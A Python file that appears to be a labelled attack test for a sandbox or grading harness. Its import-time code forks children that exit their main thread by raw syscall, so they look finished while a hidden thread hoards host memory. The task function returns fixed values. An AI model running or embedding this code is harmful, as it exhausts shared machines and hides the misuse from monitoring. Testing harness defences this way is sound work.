# Children end their first thread, which makes them look like processes that are over, and hoard memory in another.
# attack: host memory
# defence: a process is over when its last thread is; memory and files are asked of one that goes on
# loses: everything
# says: used more memory|gave no sign

# %% task: launch_config
import ctypes
import os
import threading
import time


def hoard():
    held = []
    while True:
        held.append(b"x" * 2**27)


def headless():
    threading.Thread(target=hoard).start()
    number = {"x86_64": 60, "aarch64": 93}[os.uname().machine]
    ctypes.CDLL(None).syscall(ctypes.c_long(number), 0)  # exit of this thread alone


def start():
    for _ in range(3):
        if not os.fork():
            headless()
    time.sleep(60)


STARTED = start()


def launch_config(n, h_out, w_out, k):
    return 128, 1
